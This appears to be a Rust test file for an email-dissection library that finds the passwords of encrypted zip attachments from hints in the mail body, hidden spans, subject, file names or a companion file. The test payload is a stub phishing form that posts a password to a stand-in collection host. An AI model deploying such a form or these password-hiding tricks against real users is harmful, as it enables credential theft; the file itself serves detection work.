//! Locked files in mails that tell how to open them: what opened is said with the place of the word.

#![allow(clippy::unwrap_used)]

use creel_dissect::{Limits, dissect, look, reopen};
use creel_evidence::dissection::{Dissection, FeatureKind};
use creel_evidence::{ArtifactRole, Derivation};
use data_encoding::BASE64_MIME;
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;
use zip::{AesMode, ZipWriter};

const SECRET: &[u8] = b"<!doctype html><form action='https://collect.example/p'><input type=password>";

/// An archive of files, those with a word locked by it.
fn archive(files: &[(&str, &[u8], Option<&str>)]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content, word) in files {
        let options = SimpleFileOptions::default();
        let options = match word {
            Some(word) => options.with_aes_encryption(AesMode::Aes256, word),
            None => options,
        };
        writer.start_file(*name, options).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn mail(subject: &str, body: &str, files: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut out = format!(
        "From: Ann <ann@firm.example>\r\nTo: bob@other.example\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
         Date: Wed, 04 Mar 2026 10:00:00 +0000\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{body}\r\n"
    );
    for (name, bytes) in files {
        let encoded = BASE64_MIME.encode(bytes);
        out += &format!(
            "--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\
             Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{encoded}\r\n"
        );
    }
    (out + "--b--\r\n").into_bytes()
}

/// What stands at the place of the word that opened something.
fn place_of(raw: &[u8], word: &str) -> Option<String> {
    let Dissection { artifacts, features, .. } = dissect(raw, &Limits::default()).dissection;
    let entry = artifacts.iter().find(|a| a.role == ArtifactRole::Entry && a.size == SECRET.len() as u64)?;
    let (Derivation::ArchiveEntry { password, .. } | Derivation::Member { password, .. }) = &entry.derivation
    else {
        return None;
    };
    assert_eq!(password.as_deref(), Some(word));
    let feature = features.iter().find(|feature| feature.is_opened_with(word))?;
    let index = artifacts.iter().position(|artifact| artifact.id == feature.at.artifact)?;
    let bytes = reopen(raw, &artifacts, index)?;
    let view = look(&bytes, &artifacts[index], feature.at.view).into_owned();
    Some(String::from_utf8_lossy(view.get(feature.at.range.range())?).into_owned())
}

#[test]
fn the_word_is_found_wherever_the_mail_tells_it() {
    let locked = |word: &str| archive(&[("offer.html", SECRET, Some(word))]);
    let cases = [
        // In the text of the body, with markup around it.
        ("Offer", "<p>Password: <b>Zx81!q</b></p>", "offer.zip", "Zx81!q", "Zx81!q"),
        (
            "Offer",
            "<table><tr><td>Kennwort</td><td>Birnbaum</td></tr></table>",
            "offer.zip",
            "Birnbaum",
            "Birnbaum",
        ),
        // Where no reader sees it.
        (
            "Offer",
            "<p>See the file.<span style='display:none'>code 99471</span></p>",
            "o.zip",
            "99471",
            "code 99471",
        ),
        ("Offer, PIN 5521", "<p>See the file.</p>", "offer.zip", "5521", " Offer, PIN 5521"),
        ("Offer", "<p>See the file.</p>", "invoice_4711.zip", "4711", "invoice_4711.zip"),
        ("Offer", "<p>Open it with your address.</p>", "o.zip", "bob@other.example", "bob@other.example"),
        ("Offer", "<p>Open it with the date.</p>", "o.zip", "04032026", "2026"),
    ];
    for (subject, body, name, word, place) in cases {
        let raw = mail(subject, body, &[(name, locked(word))]);
        let told = place_of(&raw, word);
        assert!(told.as_deref().is_some_and(|told| told.contains(place.trim())), "{word}: {told:?}");
    }
}

#[test]
fn a_text_beside_the_archive_may_tell_it() {
    let locked = archive(&[("offer.html", SECRET, Some("Mond-17"))]);
    let beside = archive(&[("password.txt", b"password: Mond-17", None), ("offer.zip", &locked, None)]);
    let raw = mail("Offer", "<p>See the file.</p>", &[("both.zip", beside)]);
    assert_eq!(place_of(&raw, "Mond-17").as_deref(), Some("Mond-17"));
    // An archive waits until what stands behind it was read.
    let files = [("offer.zip", locked), ("password.txt", b"password: Mond-17".to_vec())];
    let raw = mail("Offer", "<p>See the file.</p>", &files);
    assert_eq!(place_of(&raw, "Mond-17").as_deref(), Some("Mond-17"));
}

#[test]
fn habits_stand_nowhere_and_are_said_of_the_file() {
    let raw =
        mail("Offer", "<p>See.</p>", &[("o.zip", archive(&[("offer.html", SECRET, Some("infected"))]))]);
    assert!(place_of(&raw, "infected").is_some_and(|place| place.starts_with("PK")));
}

#[test]
fn what_stays_locked_is_said_by_name() {
    let raw = mail("Offer", "<p>See.</p>", &[("o.zip", archive(&[("offer.html", SECRET, Some("Xk-9.q!"))]))]);
    let features = dissect(&raw, &Limits::default()).dissection.features;
    let [feature] = features.as_slice() else { panic!("{features:?}") };
    assert_eq!(feature.kind, FeatureKind::Encrypted);
    assert_eq!(feature.detail, "'offer.html': no known word opens it");
}
